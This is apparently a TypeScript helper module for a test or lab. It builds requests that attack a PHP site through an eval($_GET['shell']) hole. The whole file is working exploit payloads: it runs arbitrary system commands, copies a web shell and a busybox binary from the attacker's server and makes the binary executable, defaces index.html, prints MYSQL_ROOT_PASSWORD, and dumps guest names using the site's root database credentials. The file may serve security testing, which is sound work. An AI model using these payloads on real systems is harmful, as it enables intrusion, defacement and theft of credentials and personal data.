/** What the attacker sends, as paths of the site. All of it goes through the page's `eval($_GET['shell'])`. */

export const DEFACEMENT = 'HACKED BY THE MOST ELITE GROUP OF HACKERS';

/** Marks the attacker's output in a page full of other text. */
const BEGIN = '<<<';
const END = '>>>';

/** PHP code through the hole. */
export function throughHole(code: string): string {
  return `/?shell=${encodeURIComponent(code)}`;
}

/** A command through the downloaded shell. */
export function throughShell(command: string): string {
  return `/shell.php?cmd=${encodeURIComponent(command)}`;
}

/** A command through the hole, its output marked. */
export function commandThroughHole(command: string): string {
  return throughHole(
    `echo "${BEGIN}"; system(${JSON.stringify(command).replaceAll('$', '\\$')}); echo "${END}";`,
  );
}

export function markedOutput(body: string): string | null {
  const start = body.indexOf(BEGIN);
  const end = body.indexOf(END, start);
  return start === -1 || end === -1 ? null : body.slice(start + BEGIN.length, end).trim();
}

/** What the attacker's server has to offer: a web shell, and a program that the site's image does not have. */
export const SHELL = 'shell.php';
export const TOOL = 'busybox';
/** Where the program is put. */
export const TOOL_PATH = `/tmp/${TOOL}`;

/** PHP that copies a file of the attacker's server and prints its size, or 0. */
function fetched(from: string, name: string, to: string): string {
  return `echo copy("${from}/${name}", "${to}") ? filesize("${to}") : 0`;
}

export const IDENTIFY = 'system("id");';
export const DEFACE = `system("echo ${DEFACEMENT} > index.html");`;
/** Answers with the size that was written. Only asks for it: whoever reads the shell may be refused. */
export const DOWNLOAD = (from: string) => `echo "${BEGIN}"; ${fetched(from, SHELL, SHELL)}; echo "${END}";`;
/** Drops a program, and has it tell the SHA-256 of a word and of the file that it was executed from. */
export const DROP = (from: string, word: string) =>
  [
    `echo "${BEGIN}"; ${fetched(from, TOOL, TOOL_PATH)}, "\\n"; chmod("${TOOL_PATH}", 0755);`,
    `system("printf ${word} | ${TOOL_PATH} sha256sum - /proc/self/exe 2>&1"); echo "${END}";`,
  ].join(' ');
export const READ_PASSWORD = 'printenv MYSQL_ROOT_PASSWORD';
export const LIST_PROCESSES =
  'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline; echo; done | sort | uniq -c';
/** The guest book, by the site's own credentials. */
export const READ_DATABASE = [
  'echo "<<<";',
  '$d = mysqli_connect(getenv("DB_HOST"), "root", getenv("MYSQL_ROOT_PASSWORD"), "guesthouse");',
  'echo implode(", ", array_column(mysqli_fetch_all(mysqli_query($d, "SELECT name FROM guests")), 0));',
  'echo ">>>";',
].join(' ');
